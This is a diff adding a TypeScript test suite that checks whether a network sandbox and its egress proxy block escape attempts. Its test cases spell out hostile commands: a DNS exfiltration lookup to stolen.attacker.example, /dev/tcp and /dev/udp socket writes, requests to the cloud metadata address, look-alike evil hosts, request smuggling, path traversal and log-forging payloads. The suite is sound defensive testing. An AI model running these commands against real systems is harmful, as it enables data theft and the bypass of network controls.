@@ -1,0 +1,176 @@
+import type { Run } from '../support/deployment.ts';
+import { type EscapeCase, probe } from './case.ts';
+import { type Field, grantedHost } from './field.ts';
+
+const unreachable = [
+  'ECONNREFUSED',
+  'ENETUNREACH',
+  'EACCES',
+  'EPERM',
+  'EPROTONOSUPPORT',
+  'EINPROGRESS',
+  'ENOSYS',
+  'EHOSTUNREACH',
+  'EADDRNOTAVAIL',
+  'ESOCKTNOSUPPORT',
+  'ETIMEDOUT',
+  'EINVAL',
+  'ENOPROTOOPT',
+  'EOPNOTSUPP',
+] as const;
+
+/** A way that would have reached a sink: judged by the sink. */
+function reaches(name: string, stop: string, attack: (field: Field) => string): EscapeCase {
+  return {
+    name,
+    stop,
+    attack: (field) => `echo tried; ${attack(field)}`,
+    judge: (field) => silent(field),
+  };
+}
+
+function silent(field: Field): void {
+  if (field.tcp.connections + field.tcp6.connections > 0) throw new Error('a TCP sink was reached');
+  if (field.udp.datagrams > 0) throw new Error('a UDP sink was reached');
+}
+
+/** A request that the gateway must refuse, seen by the answer that the client got and by what the server did not get. */
+function refused(
+  name: string,
+  stop: string,
+  statuses: readonly number[],
+  attack: (field: Field) => string,
+): EscapeCase {
+  return {
+    name,
+    stop,
+    attack: (field) => `echo tried; ${attack(field)}`,
+    judge: (field, run) => {
+      silent(field);
+      expectStatus(run, statuses);
+      const leaked = field.granted.requests.filter(
+        (request) => !request.target.startsWith('/open/') || request.method !== 'GET',
+      );
+      if (leaked.length > 0)
+        throw new Error(`the server got ${leaked.map((request) => `${request.method} ${request.target}`).join(', ')}`);
+    },
+  };
+}
+
+function expectStatus(run: Run, statuses: readonly number[]): void {
+  const got = /^status (\d+)$/m.exec(run.stdout)?.[1];
+  if (got === undefined || !statuses.includes(Number(got)))
+    throw new Error(`status ${got ?? 'none'}, expected ${statuses.join(' or ')}\n${run.stdout}${run.stderr}`);
+}
+
+const curl = (args: string): string => `curl -s -S -m 10 -o /dev/null -w 'status %{http_code}\\n' ${args}`;
+/** Bytes straight to the proxy's socket; the first status line of the answer. */
+const raw = (bytes: string): string =>
+  `printf '${bytes}' | timeout 10 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -n 1 <&3' | sed -E 's#^HTTP/1.1 ([0-9]+).*#status \\1#'`;
+
+export const egressCases: readonly EscapeCase[] = [
+  probe('connect4', 'network namespace', unreachable, (field) => String(field.tcp.port)),
+  probe('connect6', 'network namespace', unreachable, (field) => String(field.tcp6.port)),
+  probe('connect-mapped', 'network namespace', unreachable, (field) => String(field.tcp.port)),
+  probe('connect-mptcp', 'seccomp, network namespace', unreachable, (field) => String(field.tcp.port)),
+  probe('connect-sctp', 'seccomp, network namespace', unreachable, (field) => String(field.tcp.port)),
+  probe('connect-public', 'network namespace', unreachable),
+  probe('connect-metadata', 'network namespace', unreachable),
+  probe('fast-open', 'network namespace', unreachable, (field) => String(field.tcp.port)),
+  probe('udp-public', 'network namespace', unreachable),
+  reaches('UDP to the host’s loopback', 'network namespace', (field) => `./probe udp ${field.udp.port}`),
+  reaches(
+    'TCP with the proxy variables unset',
+    'network namespace',
+    (field) => `env -i /usr/bin/curl -s -m 3 http://127.0.0.1:${field.tcp.port}/`,
+  ),
+  reaches(
+    'DNS for a name that carries data',
+    'no name server',
+    () => 'getent hosts stolen.attacker.example; bash -c "echo x > /dev/udp/127.0.0.1/53"',
+  ),
+  reaches(
+    'CONNECT to the host’s loopback',
+    'destination class',
+    (field) => `curl -s -m 5 -p -x http://127.0.0.1:3128 http://127.0.0.1:${field.tcp.port}/`,
+  ),
+  reaches('an absolute URI to the host’s loopback', 'destination class', (field) =>
+    curl(`-x http://127.0.0.1:3128 --noproxy '' http://127.0.0.1:${field.tcp.port}/`),
+  ),
+  reaches('an IPv6 literal', 'destination class', (field) =>
+    curl(`-x http://127.0.0.1:3128 --noproxy '' 'http://[::1]:${field.tcp6.port}/'`),
+  ),
+  reaches('a decimal address', 'canonical host', (field) =>
+    curl(`-x http://127.0.0.1:3128 --noproxy '' http://2130706433:${field.tcp.port}/`),
+  ),
+  reaches('a short address', 'canonical host', (field) =>
+    curl(`-x http://127.0.0.1:3128 --noproxy '' http://127.1:${field.tcp.port}/`),
+  ),
+  refused('a host without a grant', 'policy', [403], () => curl('https://other.example/')),
+  refused('another method than granted', 'policy', [403], () => curl(`-X POST -d x https://${grantedHost}/open/a`)),
+  refused('another path than granted', 'policy', [403], () => curl(`https://${grantedHost}/closed`)),
+  refused('a path that climbs out of the granted one', 'one reading of the path', [400, 403], () =>
+    curl(`--path-as-is https://${grantedHost}/open/../closed`),
+  ),
+  refused('an escaped path that climbs out', 'one reading of the path', [400, 403], () =>
+    curl(`--path-as-is https://${grantedHost}/open/%2e%2e/closed`),
+  ),
+  refused('an escaped slash', 'one reading of the path', [400, 403], () =>
+    curl(`--path-as-is https://${grantedHost}/open%2f..%2fclosed`),
+  ),
+  refused('a suffix of the granted host', 'policy', [403], () => curl(`https://evil-${grantedHost}/open/a`)),
+  refused('the granted host as a prefix', 'policy', [403], () => curl(`https://${grantedHost}.evil.example/open/a`)),
+  refused('another port of the granted host', 'policy', [403], () => curl(`https://${grantedHost}:8443/open/a`)),
+  refused('a Host that differs from the target', 'agreement', [400, 403, 421], () =>
+    curl(`-H 'Host: other.example' https://${grantedHost}/open/a`),
+  ),
+  refused('plain http where https is granted', 'policy', [403], () => curl(`http://${grantedHost}/open/a`)),
+  refused('userinfo in the target', 'http head', [400], () =>
+    raw('GET http://user@granted.example/open/a HTTP/1.1\\r\\nHost: granted.example\\r\\n\\r\\n'),
+  ),
+  refused('two Host headers', 'http head', [400], () =>
+    raw('GET http://granted.example/open/a HTTP/1.1\\r\\nHost: granted.example\\r\\nHost: other.example\\r\\n\\r\\n'),
+  ),
+  refused('length and chunked together', 'http head', [400], () =>
+    raw(
+      'POST http://granted.example/open/a HTTP/1.1\\r\\nHost: granted.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n',
+    ),
+  ),
+  refused('the metadata service', 'destination class', [403], () =>
+    curl("--noproxy '' -x http://127.0.0.1:3128 http://169.254.169.254/latest/meta-data/"),
+  ),
+  refused('SNI that differs from CONNECT', 'agreement', [0, 400, 403, 421], () =>
+    curl(`--connect-to other.example:443:${grantedHost}:443 https://other.example/open/a`),
+  ),
+  {
+    name: 'what is granted works (or the cases above would prove nothing)',
+    stop: 'nothing',
+    attack: () => `echo tried; ${curl(`https://${grantedHost}/open/a`)}`,
+    judge: (field, run) => {
+      expectStatus(run, [200]);
+      if (!field.granted.requests.some((request) => request.method === 'GET' && request.target === '/open/a'))
+        throw new Error('the granted request did not arrive');
+    },
+  },
+  {
+    name: 'a refusal says what would allow it',
+    stop: 'policy',
+    attack: () => 'echo tried; curl -s -m 10 -X POST -d x https://other.example/upload',
+    judge: (_field, run) => {
+      for (const word of ['"code"', 'no-grant', '--allow other.example/upload:POST', 'cordon policy explain att_']) {
+        if (!run.stdout.includes(word)) throw new Error(`the refusal lacks ${word}: ${run.stdout}`);
+      }
+    },
+  },
+  {
+    name: 'log lines cannot be forged',
+    stop: 'visible text',
+    attack: () =>
+      `echo tried; curl -s -m 10 -o /dev/null "https://other.example/x%0a2026-01-01T00:00:00Z%20allow%20GET" -H "$(printf 'X-A: \\033[2J')"`,
+    judge: async (field) => {
+      const { stdout } = await field.deployment.cordon(['logs']);
+      if (stdout.includes('\u001b') || /^2026-01-01T00:00:00Z allow/m.test(stdout))
+        throw new Error(`a log line was forged:\n${stdout}`);
+    },
+  },
+];
